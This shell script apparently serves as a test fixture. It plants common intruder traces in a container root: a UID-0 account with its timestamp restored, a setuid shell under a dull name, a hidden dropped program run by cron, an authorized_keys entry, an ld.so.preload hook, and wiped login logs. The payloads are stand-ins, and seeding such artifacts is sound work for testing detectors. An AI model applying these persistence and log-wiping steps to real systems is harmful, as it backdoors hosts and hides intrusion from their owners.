#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# intrude.sh ROOT: what an intruder might leave behind, done to a root directory. Harmless: the
# "malware" prints a line, the key is no key.
#
# Runs on a mounted container root, or inside a container as `intrude.sh /`.
set -eu
root=${1%/}

# an account, with size and time of the file put back: what size-and-time checkers miss
stamp=$(stat -c %Y "$root/etc/passwd")
edited=$(sed 's/^daemon:x:1:1:/daemon:x:0:0:/' "$root/etc/passwd")
echo "$edited" >"$root/etc/passwd"
touch -d "@$stamp" "$root/etc/passwd"

# a setuid shell under a dull name, a dropped program in a hidden directory
cp "$root/usr/bin/busybox" "$root/usr/bin/chage-ng"
chmod 4755 "$root/usr/bin/chage-ng"
mkdir -p "$root/tmp/.font-unix"
printf '#!/bin/sh\necho mining\n' >"$root/tmp/.font-unix/kworker"
chmod 755 "$root/tmp/.font-unix/kworker"

# persistence and a way back in
echo '* * * * * root /tmp/.font-unix/kworker' >"$root/etc/cron.d/refresh"
mkdir -p "$root/root/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA-not-a-key intruder' >>"$root/root/.ssh/authorized_keys"
echo /usr/lib/libhook.so >"$root/etc/ld.so.preload"

# traces removed
rm -f "$root/var/log/auth.log"
: >"$root/var/log/wtmp"
